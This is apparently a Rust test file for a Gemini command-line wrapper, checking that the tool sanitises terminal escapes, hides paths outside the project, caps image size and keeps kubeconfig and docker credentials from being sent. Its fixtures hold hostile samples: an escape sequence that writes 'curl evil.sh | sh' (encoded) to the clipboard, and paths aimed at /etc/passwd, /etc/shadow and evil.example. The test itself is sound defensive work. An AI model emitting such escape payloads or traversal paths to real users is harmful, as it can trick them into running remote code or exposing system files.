//! What neither Gemini's answer nor the project's files can make the command line do: drive the
//! terminal, print a location outside the project, read images past the inline limit, send
//! credentials.

use serde_json::{Value, json};

use super::{changed_project, fake, gemini_mcp, project, review, run, validate_sarif, vars, with};
use crate::support::fake_gemini::Script;

#[test]
fn gemini_cannot_drive_the_terminal() {
    let p = changed_project();
    let fake = fake();
    let v = vars(&fake);
    let mut env = with(&v).to_vec();
    // As on a terminal: colours on, nothing stripped by the output stream.
    env.push(("CLICOLOR_FORCE", "1"));
    let hostile =
        "Sure.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}8m done";
    fake.push(Script::text(hostile));
    let r = run(gemini_mcp(&p.root, &env).args(["chat", "Hello?"]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout
            .contains("Sure.^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G^[]0;owned^G^[[2J<U+009B>8m done"),
        "{:?}",
        r.stdout
    );
    assert!(!r.stdout.contains(['\u{7}', '\u{9b}']), "{:?}", r.stdout);
    assert!(!r.stdout.contains("\u{1b}]"), "{:?}", r.stdout);

    // A review: findings and file names too; our own colours stay.
    fake.push(Script::json(json!({
        "summary": "\u{1b}[2JAll clear.",
        "verdict": "needs_changes",
        "findings": [{"severity": "high", "file": "src/lib\u{1b}]52;c;eA==\u{7}.rs", "line": 2,
                      "title": "Bad\u{1b}[8m hidden", "detail": "d\u{9b}2J", "fix": "f\r"}]
    })));
    // Its file is not one that was sent (its name is hostile): unverified, counted on request.
    let r = run(gemini_mcp(&p.root, &env).args(["precommit", "--fail-on-unverified"]));
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("^[[2JAll clear."), "{:?}", r.stdout);
    // A name holding an escape is no file of the project: not shown as a location at all.
    assert!(
        r.stdout
            .contains("(location outside the project, not shown) Bad^[[8m hidden"),
        "{:?}",
        r.stdout
    );
    assert!(!r.stdout.contains("eA=="), "{:?}", r.stdout);
    assert!(r.stdout.contains("Bad^[[8m hidden"), "{:?}", r.stdout);
    assert!(
        !r.stdout.contains(['\u{7}', '\u{9b}', '\r']),
        "{:?}",
        r.stdout
    );
    assert!(
        !r.stdout.contains("\u{1b}]") && !r.stdout.contains("\u{1b}[2J"),
        "{:?}",
        r.stdout
    );
    assert!(
        r.stdout.contains("\u{1b}[1m"),
        "our colours: {:?}",
        r.stdout
    );

    // JSON: the same text, escaped (C1 included), parsed back whole.
    fake.push(Script::text(hostile));
    let r = run(gemini_mcp(&p.root, &env).args(["chat", "Hello?", "--format", "json"]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        !r.stdout.contains(|c: char| c.is_control() && c != '\n'),
        "{:?}",
        r.stdout
    );
    let out: Value = serde_json::from_str(&r.stdout).unwrap();
    assert!(out["text"].as_str().unwrap().starts_with(hostile), "{out}");
}

#[test]
fn locations_outside_the_project_are_never_printed() {
    let p = changed_project();
    let fake = fake();
    let v = vars(&fake);
    let answer = json!({"summary": "", "verdict": "needs_changes", "findings": [
        {"severity": "high", "file": "../../etc/passwd", "line": 1, "title": "Escape", "detail": "d"},
        {"severity": "high", "file": "file:///etc/shadow", "line": 3, "title": "Scheme", "detail": "d"},
        {"severity": "high", "file": "https://evil.example/x.rs", "line": 3, "title": "Url", "detail": "d"},
        {"severity": "high", "file": "/etc/hostname", "line": 1, "title": "Absolute", "detail": "d"},
        {"severity": "high", "file": "src/lib.rs", "line": 999999, "title": "Far", "detail": "d"},
        {"severity": "medium", "file": "src/lib.rs", "line": 2, "title": "Fine", "detail": "d"}]});
    fake.push(Script::json(answer.clone()));
    // None of them quotes evidence: unverified, counted on request.
    let r = run(gemini_mcp(&p.root, &with(&v)).args([
        "precommit",
        "--format",
        "sarif",
        "--fail-on-unverified",
    ]));
    assert_eq!(r.code, 1, "{}", r.stderr);
    let log: Value = serde_json::from_str(&r.stdout).unwrap();
    // Findings that lost their location have none (as a finding without a file always had);
    // the rest of the log is valid.
    let mut placed_only = log.clone();
    placed_only["runs"][0]["results"]
        .as_array_mut()
        .unwrap()
        .retain(|r| r.get("locations").is_some());
    validate_sarif(&placed_only).unwrap();
    for bad in ["etc/passwd", "shadow", "evil.example", "hostname", "999999"] {
        assert!(!r.stdout.contains(bad), "{bad} in {}", r.stdout);
    }
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), 6, "every finding is kept");
    let placed: Vec<(String, Value)> = results
        .iter()
        .map(|r| {
            let loc = &r["locations"][0]["physicalLocation"];
            (
                r["properties"]["title"].as_str().unwrap().to_string(),
                loc["region"]["startLine"].clone(),
            )
        })
        .collect();
    assert!(
        placed.contains(&("Far".into(), json!(3))),
        "clamped to the file: {placed:?}"
    );
    assert!(placed.contains(&("Fine".into(), json!(2))), "{placed:?}");
    for t in ["Escape", "Scheme", "Url", "Absolute"] {
        assert!(placed.contains(&(t.into(), Value::Null)), "{t}: {placed:?}");
    }

    // The text output cites the same checked locations.
    fake.push(Script::json(answer));
    let r = run(gemini_mcp(&p.root, &with(&v)).args(["precommit", "--fail-on-unverified"]));
    assert_eq!(r.code, 1, "{}", r.stderr);
    for bad in ["etc/passwd", "shadow", "evil.example", "hostname", "999999"] {
        assert!(!r.stdout.contains(bad), "{bad} in {}", r.stdout);
    }
    assert!(r.stdout.contains("`src/lib.rs:3` Far"), "{}", r.stdout);
    assert!(
        r.stdout
            .contains("(location outside the project, not shown) Escape"),
        "{}",
        r.stdout
    );
}

#[test]
fn images_over_the_inline_limit_are_refused_before_reading_them() {
    let p = project();
    let fake = fake();
    let v = vars(&fake);
    // Three 6 MB PNGs (sparse: cheap to make): each fits, together they do not.
    let mut args = vec!["chat".to_string(), "What is on these?".to_string()];
    for n in 0..3 {
        let name = format!("shot{n}.png");
        let path = p.root.join(&name);
        std::fs::write(&path, b"\x89PNG\r\n\x1a\n").unwrap();
        std::fs::File::options()
            .write(true)
            .open(&path)
            .unwrap()
            .set_len(6 * 1024 * 1024)
            .unwrap();
        args.extend(["--image".to_string(), name]);
    }
    let r = run(gemini_mcp(&p.root, &with(&v)).args(&args));
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    assert!(r.stderr.contains("--image"), "{}", r.stderr);
    assert!(
        r.stderr.contains("fewer images, or smaller ones"),
        "{}",
        r.stderr
    );
    assert!(fake.generate_requests().is_empty(), "nothing was sent");

    // A small one is sent.
    std::fs::write(p.root.join("small.png"), b"\x89PNG\r\n\x1a\nsmall").unwrap();
    fake.push(Script::text("A screenshot."));
    let r = run(gemini_mcp(&p.root, &with(&v)).args(["chat", "And this?", "--image", "small.png"]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(fake.generate_requests().len(), 1);
}

/// A kubeconfig's client key, certificate and token and a docker `config.json`'s auth, in a
/// project's files and in the prompt: `chat` with the files and `precommit` with them untracked
/// send none of the values to Gemini (the keys' names still go, so the files were read).
#[test]
fn kubeconfig_and_docker_credentials_never_reach_gemini() {
    const CLIENT_KEY: &str = "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlFcEFJQkFBS0NBUUVBdkh6WnE4TG0zUHc3WHIyVG41VmI5S3kxSGM0QWJDZEVmNkdoOElqMEtsMk1uNE9wNlFyOFN0MFV2Mld4NFl6NkFiOENkCg==";
    const CLIENT_CERT: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSURFekNDQWZ1Z0F3SUJBZ0lJYlE4S3BkN0VKa2d3RFFZSktvWklodmNOQVFFTEJRQXdGVEVUTUJFR0ExVUUKQXhNS2EzVmlaWEp1WlhSbGN6QWVGdzB5TURBME1ERXdNREF3TURCYUZ3MHlNVEF6TXpFd01EQXdNREJhTURReA==";
    const DOCKER_AUTH: &str = "ZG9ja2VydXNlcjpkY2tyX3BhdF9acThMbTNQdzdYcjJUbjVWYjlLeTFIYzQ=";
    let token = format!(
        "k8s-aws-v1.{}",
        "aHR0cHM6Ly9zdHMuYW1hem9uYXdzLmNvbS8_QWN0aW9uPUdldENhbGxlcklkZW50aXR5".repeat(5)
    );
    let p = project();
    p.write(
        "deploy/kubeconfig",
        &format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://10.0.0.1:6443\n  \
             name: prod\nusers:\n- name: admin\n  user:\n    client-certificate-data: {CLIENT_CERT}\n    \
             client-key-data: {CLIENT_KEY}\n- name: ci\n  user:\n    token: {token}\n"
        ),
    );
    p.write(
        "deploy/docker/config.json",
        &format!(
            "{{\n  \"auths\": {{\n    \"https://index.docker.io/v1/\": {{\n      \"auth\": \"{DOCKER_AUTH}\"\n    }}\n  }}\n}}\n"
        ),
    );
    let fake = fake();
    let v = vars(&fake);
    let env = with(&v);
    let prompt = format!("Why does `\"auth\": \"{DOCKER_AUTH}\"` fail?");
    let r = run(gemini_mcp(&p.root, &env).args([
        "chat",
        &prompt,
        "--file",
        "deploy/kubeconfig",
        "--file",
        "deploy/docker/config.json",
    ]));
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    fake.push(review(&[], "ready"));
    let r = run(gemini_mcp(&p.root, &env).args(["precommit", "--fail-on", "critical"]));
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let sent = fake.generate_requests();
    assert_eq!(sent.len(), 2, "one chat, one precommit");
    for (call, request) in ["chat", "precommit"].iter().zip(&sent) {
        let body = &request.raw_body;
        assert!(
            body.contains("client-key-data"),
            "{call}: the kubeconfig was sent"
        );
        assert!(body.contains("auths"), "{call}: the docker config was sent");
        for secret in [CLIENT_KEY, CLIENT_CERT, DOCKER_AUTH, token.as_str()] {
            assert!(!body.contains(secret), "{call} sent {secret}");
        }
        for a in [&r.stdout, &r.stderr] {
            assert!(!a.contains(CLIENT_KEY) && !a.contains(DOCKER_AUTH), "{a}");
        }
    }
}
